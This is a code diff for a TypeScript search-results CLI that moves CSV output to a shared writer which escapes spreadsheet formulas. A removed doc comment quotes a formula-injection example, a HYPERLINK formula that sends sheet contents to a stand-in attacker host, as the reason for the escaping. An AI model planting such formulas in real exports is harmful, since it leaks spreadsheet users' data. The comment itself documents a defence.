@@ -2,13 +2,13 @@ import { appendFileSync, existsSync, readFileSync } from 'node:fs';
 import { extname } from 'node:path';
 import { Presets, SingleBar } from 'cli-progress';
 import { type Command, InvalidArgumentError, Option } from 'commander';
-import { stringify } from 'csv-stringify/sync';
 import pLimit from 'p-limit';
 import pRetry, { AbortError } from 'p-retry';
 import pThrottle from 'p-throttle';
 import { MAX_DEPTH, MIN_DEPTH } from '../../../contracts/search.js';
 import { createV1Client, type V1Client, V1Error } from '../../client/v1Client.js';
 import { loadCliClientEnv } from '../../config/clients.js';
+import { csvLines } from '../../export/csv.js';
 import { type BatchProgress, donePerMinute, progressLine, submitsPerMinute, summaryLine } from '../progress.js';
 
 /**
@@ -120,22 +120,11 @@ const domainOf = (link: string) => {
 
 const CSV_HEADER = ['keyword', 'position', 'title', 'link', 'domain'];
 
-/**
- * A keyword's CSV rows, one per organic result. Keywords, titles and links are anyone's text: a cell that starts
- * with `=`, `+`, `-`, `@`, a tab or a carriage return would be a live formula in a spreadsheet (a keyword
- * `=HYPERLINK("http://evil.example/?"&A1,"click")` leaks the sheet), so such a cell gets a leading `'`
- * (csv-stringify's `escape_formulas`).
- */
+/** A keyword's CSV rows, one per organic result, through the exports' one writer (it escapes formulas). */
 export const csvRows = (
   keyword: string,
   organic: ReadonlyArray<{ position: number; title: string; link: string }>,
-): string =>
-  organic.length === 0
-    ? ''
-    : stringify(
-        organic.map((r) => [keyword, r.position, r.title, r.link, domainOf(r.link)]),
-        { escape_formulas: true },
-      );
+): string => csvLines(organic.map((r) => [keyword, r.position, r.title, r.link, domainOf(r.link)]));
 
 export const registerSearchCommands = (program: Command) => {
   const clientOptions = (c: Command) =>
@@ -219,7 +208,7 @@ export const registerSearchCommands = (program: Command) => {
             `serp-api: warning: ${fresh} searches to submit but ${usage.remaining} left this month: the batch stops when the quota runs out (resume next month)`,
           );
         }
-        if (csv && !existsSync(o.out)) appendFileSync(o.out, stringify([CSV_HEADER]));
+        if (csv && !existsSync(o.out)) appendFileSync(o.out, csvLines([CSV_HEADER]));
         const record = (s: Record<string, string>) => appendFileSync(statePath, `${JSON.stringify(s)}\n`);
 
         const total = keywords.length;
